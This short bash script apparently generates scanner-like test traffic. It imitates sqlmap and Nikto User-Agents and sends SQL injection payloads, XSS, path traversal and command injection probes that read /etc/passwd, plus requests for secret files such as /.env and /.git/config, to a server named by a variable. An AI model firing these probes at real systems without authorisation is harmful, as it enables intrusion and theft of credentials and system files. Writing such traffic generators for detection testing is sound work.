# A scanner: sqlmap- and nikto-like requests (their User-Agents, their payloads, their paths).
set -u
sqlmap="sqlmap/1.7.2#stable (https://sqlmap.org)"
for q in "1' AND 1=1-- -" "1' UNION ALL SELECT NULL,NULL,NULL-- -" "1' AND SLEEP(5)-- -" \
         "1) AND (SELECT 4512 FROM (SELECT(SLEEP(5)))a)-- -" "1' OR '1'='1"; do
  curl -s -o /dev/null -A "$sqlmap" -G --data-urlencode "q=$q" "http://$SERVER/search"
done
nikto="Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:001234)"
for p in /.git/config /.env /phpinfo.php /admin/ /cgi-bin/test-cgi /server-status \
         "/search?q=<script>alert(1)</script>" "/../../../../etc/passwd" \
         "/index.php?page=../../../../etc/passwd" "/?cmd=;cat%20/etc/passwd" /wp-login.php \
         /backup.tar.gz /config.php.bak; do
  curl -s -o /dev/null --path-as-is -A "$nikto" "http://$SERVER$p"
done
